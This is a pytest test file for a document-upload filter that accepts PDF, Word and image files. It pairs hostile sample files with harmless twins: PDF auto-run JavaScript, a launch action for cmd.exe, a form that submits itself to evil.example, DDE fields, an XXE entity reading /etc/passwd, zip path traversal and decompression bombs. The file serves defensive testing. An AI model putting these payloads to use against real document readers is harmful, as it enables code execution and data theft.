"""V14: a file that would act, fetch or unpack without end is refused with what to do; its harmless twin is taken."""

from __future__ import annotations

import io
import re
import zipfile
import zlib

import pytest
from PIL import Image
from pypdf import PdfReader

from formsvc.submissions.files import FileRefused, take_in
from formsvc.submissions.pdf_judge import judged_here
from tests.pdfs import pages, stream
from tests.submissions.hostile import (
    DOCUMENT,
    RELATES,
    SETTINGS,
    SETTINGS_RELS,
    TYPES,
    annotation,
    body,
    field,
    packed,
    pdf,
    related,
    word,
)

SCRIPT = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
NEXT = b"<< /S /GoTo /D [3 0 R /Fit] >>"
FILE = b"<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>"
HELD = stream(b"MZ", b"/Type /EmbeddedFile")

PDFS = {
    "a script when it is opened": ("script", pdf(catalogue=b"/OpenAction " + SCRIPT), pdf(catalogue=b"/OpenAction " + NEXT)),
    "a script spelled with codes": (
        "script",
        pdf(catalogue=b"/OpenAction << /S /J#61vaScr#69pt /JS (x) >>"),
        pdf(catalogue=b"/OpenAction << /S /G#6fTo /D [3 0 R /Fit] >>"),
    ),
    "a script in a packed object": ("script", packed(SCRIPT), packed(NEXT)),
    "a script by name": (
        "script",
        pdf(catalogue=b"/Names << /JavaScript << /Names [(a) 5 0 R] >> >>").replace(b"(a) 5 0 R", b"(a) " + SCRIPT),
        pdf(catalogue=b"/Names << /Dests << /Names [(a) [3 0 R /Fit]] >> >>"),
    ),
    "a script after another action": (
        "script",
        pdf(catalogue=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [" + SCRIPT + b"] >>"),
        pdf(catalogue=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [" + NEXT + b"] >>"),
    ),
    "a script in a box of a form": (
        "script",
        annotation(b"/Widget", b"/FT /Tx /T (a) /AA << /K " + SCRIPT + b" >>"),
        annotation(b"/Widget", b"/FT /Tx /T (a)"),
    ),
    "a script of an older version": ("script", pdf() + b"9 0 obj\n" + SCRIPT + b"\nendobj\n", pdf() + b"% words\n"),
    "a program to start": (
        "launch",
        annotation(b"/Link", b"/A << /S /Launch /F (cmd.exe) >>"),
        annotation(b"/Link", b"/A " + NEXT),
    ),
    "a form that sends itself": (
        "launch",
        annotation(b"/Widget", b"/A << /S /SubmitForm /F (http://evil.example/) >>"),
        annotation(b"/Widget", b"/A << /S /ResetForm >>"),
    ),
    "another file inside": (
        "files",
        pdf(b"", FILE, HELD, catalogue=b"/Names << /EmbeddedFiles << /Names [(a) 5 0 R] >> >>"),
        pdf(b"", b"(words)", stream(b"MZ"), catalogue=b"/Names << /Dests << /Names [] >> >>"),
    ),
    "another file pinned to a page": (
        "files",
        pdf(b"/Annots [<< /Subtype /FileAttachment /Rect [0 0 9 9] /FS 5 0 R >>]", FILE, HELD),
        pdf(b"/Annots [<< /Subtype /Text /Rect [0 0 9 9] /Contents (a) >>]"),
    ),
    "an archive behind its end": ("files", pdf() + word(), pdf() + b"\n" * 500),
    "a form of Adobe's own": (
        "form",
        pdf(catalogue=b"/AcroForm << /Fields [] /XFA (<xdp/>) >>"),
        pdf(catalogue=b"/AcroForm << /Fields [] >>"),
    ),
    "a film": ("media", annotation(b"/Screen", b"/A << /S /Rendition >>"), annotation(b"/Square", b"")),
    "a model": ("media", annotation(b"/3D", b"/3DD 4 0 R"), annotation(b"/Circle", b"")),
    "another document": (
        "outside",
        annotation(b"/Link", b"/A << /S /GoToR /F (\\\\\\\\evil\\\\share.pdf) /D [0 /Fit] >>"),
        annotation(b"/Link", b"/Dest [3 0 R /Fit]"),
    ),
    "a picture that is elsewhere": (
        "outside",
        pdf(b"", stream(b"", b"/Type /XObject /Subtype /Image /F (http://evil.example/x.png)")),
        pdf(b"", stream(b"", b"/Type /XObject /Subtype /Image")),
    ),
}  # fmt: skip


@pytest.mark.parametrize("kind", PDFS)
def test_v14_refuses_a_pdf_with(kind: str) -> None:
    reason, hostile, harmless = PDFS[kind]

    assert (judged_here(hostile), judged_here(harmless)) == (reason.encode(), b"")


def test_v14_says_what_is_wrong_with_a_pdf_and_what_to_do() -> None:
    hostile = {reason: given for reason, given, _ in PDFS.values()}

    for given in hostile.values():
        assert re.match(r"The PDF .* [Pp]rint (it|the PDF) to a new", refusal("paper.pdf", given))


def test_v14_takes_a_pdf_with_links_without_them() -> None:
    link = b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (http://evil.example/?) >> >>"
    given = pages("Hello", entries=b"/Annots [" + link + b"]")

    kept = take_in("paper.pdf", given).content

    assert b"evil.example" not in kept
    assert "Hello" in PdfReader(io.BytesIO(kept)).pages[0].extract_text()


def test_v14_does_not_break_what_somebody_signed() -> None:
    link = b"/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (http://court.example/) >> >>]"
    signature = b"<< /Type /Sig /ByteRange [0 1 2 3] /Contents <00> >>"

    assert "would no longer be genuine" in refusal("order.pdf", pdf(link, signature))
    assert take_in("order.pdf", pdf(b"", signature)).content == pdf(b"", signature)


def types(kind: str, part: str = "/word/x.bin") -> dict[str, object]:
    return {TYPES: ("</Types>", f'<Override PartName="{part}" ContentType="{kind}"/></Types>')}


MACRO_MAIN = ("wordprocessingml.document.main+xml", "x")
ENTITIES = '<!DOCTYPE a [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]>'
OFFICE = "application/vnd.ms-word.document.macroEnabled.main+xml"
WORDS = {
    "macros": ("macros", word({"word/vbaProject.bin": b"\xd0\xcf"}), word({"docProps/thumbnail.jpeg": b"\xff\xd8"})),
    "macros by what it says it is": (
        "macros",
        word({TYPES: ("application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml", OFFICE)}),
        word(),
    ),
    "macros by relation": ("macros", word(related("vbaProject", "theme/x.xml")), word(related("theme", "theme/x.xml"))),
    "ActiveX": ("macros", word({"word/activeX/activeX1.xml": "<a/>"}), word({"word/comments.xml": "<a/>"})),
    "a program inside": (
        "another file",
        word({"word/embeddings/oleObject1.bin": b"\xd0\xcf"}),
        word({"word/media/image1.png": b"\x89PNG"}),
    ),
    "a spreadsheet inside": ("another file", word(related("package", "x.xlsx")), word(related("chart", "x.xml"))),
    "a part of another kind": ("another file", word({"word/run.exe": b"MZ"}), word({"word/run.xml": "<a/>"})),
    "an unknown relation": ("besides text", word(related("webextension", "x.xml")), word(related("footer", "x.xml"))),
    "a page of another kind": (
        "another file",
        word(related("aFChunk", "x.html")),
        word(related("footnotes", "x.xml")),
    ),
    "a linked picture": (
        "from elsewhere",
        word(related("image", "http://evil.example/x.png", outside=True)),
        word(related("image", "media/x.png")),
    ),
    "a linked frame": (
        "from elsewhere",
        word(related("frame", "http://evil.example/", outside=True)),
        word(related("hyperlink", "http://good.example/", outside=True)),
    ),
    "a drawing from elsewhere": (
        "from elsewhere",
        word(body('<w:p><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="http://evil.example/x"/></w:p>')),
        word(body('<w:p><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" title="x"/></w:p>')),
    ),
    "a letter to many": (
        "from elsewhere",
        word({SETTINGS: ("<w:zoom", "<w:mailMerge/><w:zoom")}),
        word({SETTINGS: ("<w:zoom", "<w:hideSpellingErrors/><w:zoom")}),
    ),
    "DDE": ("a field that takes", word(field("DDEAUTO c:\\\\x")), word(field(" PAGE "))),
    "DDE in pieces": ("a field that takes", word(field("D", "DE", " x y")), word(field("DA", "TE"))),
    "DDE in one": (
        "a field that takes",
        word(body('<w:p><w:fldSimple w:instr=" dde x y"/></w:p>')),
        word(body('<w:p><w:fldSimple w:instr=" date "/></w:p>')),
    ),
    "DDE within a field": ("a field that takes", word(field("QUOTE {DDE x}")), word(field("QUOTE added"))),
    "text of another file": ("a field that takes", word(field('INCLUDETEXT "\\\\\\\\evil"')), word(field("TOC"))),
    "a link to a share": (
        "a link to a file",
        word(field('HYPERLINK "file://evil/x"')),
        word(field('HYPERLINK "https://good.example/"')),
    ),
    "entities": (
        "not what Word writes",
        word({"word/footnotes.xml": f"{ENTITIES}<a>&b;</a>"}),
        word({"word/footnotes.xml": "<a>&amp;</a>"}),
    ),
    "entities from elsewhere": (
        "not what Word writes",
        word({"word/footnotes.xml": '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'}),
        word({"word/footnotes.xml": '<?xml version="1.0"?><a/>'}),
    ),
    "entities in another alphabet": (
        "not what Word writes",
        word({"word/footnotes.xml": ("<?xml version='1.0' encoding='UTF-16'?><!DOCTYPE a><a/>").encode("utf-16")}),
        word({"word/footnotes.xml": ("<?xml version='1.0' encoding='UTF-16'?><a/>").encode("utf-16")}),
    ),
    "a document that passes as a picture": (
        "besides text",
        word(types("application/vnd.openxmlformats-officedocument.wordprocessingml.footer+xml", "/word/media/x.png")),
        word(types("image/png", "/word/media/x.png")),
    ),
    "a drawing with a script": (
        "another file",
        word({"word/media/x.svg": '<svg xmlns="http://www.w3.org/2000/svg"><script/></svg>'}),
        word({"word/media/x.svg": '<svg xmlns="http://www.w3.org/2000/svg"><path/></svg>'}),
    ),
    "a way out of its folder": ("damaged", word({"word/../../x.xml": "<a/>"}), word({"word/a..b/x.xml": "<a/>"})),
    "a name of the machine": ("damaged", word({"/etc/x.xml": "<a/>"}), word({"etc/x.xml": "<a/>"})),
    "a name of another machine": ("damaged", word({"c:\\x.xml": "<a/>"}), word({"c/x.xml": "<a/>"})),
    "the same part twice": ("damaged", word({DOCUMENT.upper(): "<a/>"}), word({"word/other.xml": "<a/>"})),
    "too many parts": (
        "far more than its size",
        word({f"word/{n}.xml": "<a/>" for n in range(5001)}),
        word({f"word/{n}.xml": "<a/>" for n in range(50)}),
    ),
    "XML that unpacks without end": (
        "far more than its size",
        word({"word/x.xml": b"<a>" + b" " * 50_000_000 + b"</a>"}),
        word({"word/x.xml": b"<a>" + b" " * 1_000_000 + b"</a>"}),
    ),
}  # fmt: skip


@pytest.mark.parametrize("kind", WORDS)
def test_v14_refuses_a_word_file_with(kind: str) -> None:
    said, hostile, harmless = WORDS[kind]

    assert said in refusal("plan.docx", hostile)
    assert take_in("plan.docx", harmless).content


def test_v14_takes_the_address_of_its_template_out_of_a_word_file_and_links_to_files() -> None:
    rel = (
        f'<Relationship Id="rId1" Type="{RELATES}/attachedTemplate" Target="file:///X:/a.dotm" TargetMode="External"/>'
    )
    given = word(
        {
            **related("hyperlink", "file://evil/share", outside=True),
            SETTINGS: ("<w:zoom", f'<w:attachedTemplate xmlns:r="{RELATES}" r:id="rId1"/><w:zoom'),
            SETTINGS_RELS: f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{rel}</Relationships>',
        }
    )

    kept = zipfile.ZipFile(io.BytesIO(take_in("plan.docx", given).content))

    everything = b"".join(kept.read(name) for name in kept.namelist())
    assert b"a.dotm" not in everything
    assert b"attachedTemplate" not in everything
    assert b"evil" not in everything
    assert b"Nothing but words." in everything


def test_v14_drops_what_is_hidden_in_and_behind_a_word_file() -> None:
    kept = take_in("plan.docx", word() + b"MZ hidden").content

    assert b"hidden" not in kept
    assert zipfile.ZipFile(io.BytesIO(kept)).testzip() is None


def test_v14_refuses_a_word_file_with_a_password() -> None:
    given = bytearray(word())
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = given.find(mark)
        while place >= 0:
            given[place + at] |= 1
            place = given.find(mark, place + 4)

    assert "protected" in refusal("plan.docx", bytes(given))


def test_v14_refuses_a_word_file_whose_parts_claim_to_be_small() -> None:
    size, claimed = (60_000_000).to_bytes(4, "little"), (1000).to_bytes(4, "little")

    assert "damaged" in refusal("plan.docx", word({"word/x.xml": b" " * 60_000_000}).replace(size, claimed))


@pytest.mark.parametrize("frames", [1, 3])
def test_v14_of_pictures_that_move_one_is_kept_and_no_colours_of_a_camera(frames: int) -> None:
    given, shades = io.BytesIO(), [Image.new("RGB", (40, 40), (n * 40, 0, 0)) for n in range(frames)]
    shades[0].save(given, "PNG", save_all=True, append_images=shades[1:], icc_profile=b"profile of a camera")

    kept = take_in("a.png", given.getvalue()).content

    opened = Image.open(io.BytesIO(kept))
    assert getattr(opened, "n_frames", 1) == 1
    assert "icc_profile" not in opened.info
    assert b"acTL" not in kept


@pytest.mark.parametrize("tail", [b"<script>alert(1)</script>", word(), b"%PDF-1.7", zlib.compress(b"x" * 999)])
def test_v14_a_picture_that_is_something_else_as_well_is_only_a_picture(tail: bytes) -> None:
    given = io.BytesIO()
    Image.new("RGB", (40, 40), "teal").save(given, "JPEG", comment=tail[:60_000])

    kept = take_in("a.jpg", given.getvalue() + tail).content

    assert tail[:30] not in kept


@pytest.mark.parametrize("content", [b"GIF89a" + b"\0" * 50, b"II*\0" + b"\0" * 50, b"RIFF\0\0\0\0WEBP", b"\xd0\xcf\x11\xe0",
                                     b"<html><script>", b"<?xml version='1.0'?><svg/>", b"{\\rtf1", b"\x7fELF", b"#!/bin/sh"])  # fmt: skip
def test_v14_takes_no_other_kind(content: bytes) -> None:
    assert refusal("plan.docx", content) == "The file must be a PDF, Word (DOCX), JPG or PNG."


def refusal(name: str, content: bytes) -> str:
    with pytest.raises(FileRefused) as refused:
        take_in(name, content)
    return refused.value.message
